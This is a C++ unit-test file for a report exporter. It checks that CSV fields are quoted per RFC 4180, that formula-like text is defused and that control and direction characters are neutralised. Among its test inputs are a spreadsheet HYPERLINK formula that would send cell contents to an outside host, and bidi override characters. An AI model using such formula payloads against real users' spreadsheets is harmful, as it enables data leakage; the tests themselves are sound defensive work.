#include "reports/report_export.h"

#include <gtest/gtest.h>

namespace tavu {
namespace {

// RFC 4180: a field with a quote is quoted, and its quotes doubled, even without a comma.
TEST(CsvExport, FieldWithAQuoteAndNoCommaIsQuoted) {
    ReportRow row;
    row.cells = {"01-03-2026", "10:00:00", "10:01:00", "00:01:00", "jo\"e",
                 "ttyS0",      "a,b",      "1",        "2",        "0.50"};
    std::string out;
    appendCsvRow(out, row);
    EXPECT_EQ(out,
              "2026-03-01,10:00:00,10:01:00,00:01:00,0,\"jo\"\"e\",ttyS0,\"a,b\",1,2,0.50\r\n");
}

ReportRow rowWith(std::string user, std::string device, std::string isp) {
    ReportRow row;
    row.cells = {"01-03-2026",      "10:00:00",     "10:01:00", "00:01:00", std::move(user),
                 std::move(device), std::move(isp), "1",        "2",        "-0.50"};
    return row;
}

// A text cell that a spreadsheet would take for a formula gets a "'" first; figures keep their
// sign, and JSON keeps the text as it is.
TEST(CsvExport, FormulasInTextCellsAreDefused) {
    std::string out;
    appendCsvRow(out, rowWith("=HYPERLINK(\"http://x/\"&A1,\"x\")", "+1", "@SUM(A1)"));
    EXPECT_EQ(out,
              "2026-03-01,10:00:00,10:01:00,00:01:00,0,"
              "\"'=HYPERLINK(\"\"http://x/\"\"&A1,\"\"x\"\")\",'+1,'@SUM(A1),1,2,-0.50\r\n");
    out.clear();
    appendCsvRow(out, rowWith("-2+3", "\tcmd", "\r=1"));
    EXPECT_EQ(out, "2026-03-01,10:00:00,10:01:00,00:01:00,0,'-2+3,' cmd,' =1,1,2,-0.50\r\n");
    out.clear();
    appendCsvRow(out, rowWith("a=b", "ttyS0", "isp-"));
    EXPECT_EQ(out, "2026-03-01,10:00:00,10:01:00,00:01:00,0,a=b,ttyS0,isp-,1,2,-0.50\r\n");

    std::string json;
    appendJsonRecord(json, rowWith("=1+2", "-x", "@y"));
    EXPECT_NE(json.find("\"user\":\"=1+2\",\"device\":\"-x\",\"isp\":\"@y\""), std::string::npos)
        << json;
}

// C1 controls (NEL, CSI) and the direction controls are controls: blanks in CSV, \u escapes in
// JSON; other characters beyond ASCII pass.
TEST(CsvExport, C1AndDirectionControlsAreControls) {
    const std::string hostile =
        "a\xC2\x85"
        "b\xC2\x9B"
        "c\xE2\x80\xAE"
        "d\xE2\x81\xA6"
        "e\xC2\xA0"
        "f";
    std::string out;
    appendCsvRow(out, rowWith(hostile,
                              "\xD8\x9C"
                              "x",
                              "\xC3\xA9"));
    EXPECT_EQ(out,
              "2026-03-01,10:00:00,10:01:00,00:01:00,0,a b c d e\xC2\xA0"
              "f, x,\xC3\xA9,1,2,-0.50\r\n");

    std::string json;
    appendJsonString(json, hostile);
    EXPECT_EQ(json,
              "\"a\\u0085b\\u009bc\\u202ed\\u2066e\xC2\xA0"
              "f\"");
}

}  // namespace
}  // namespace tavu
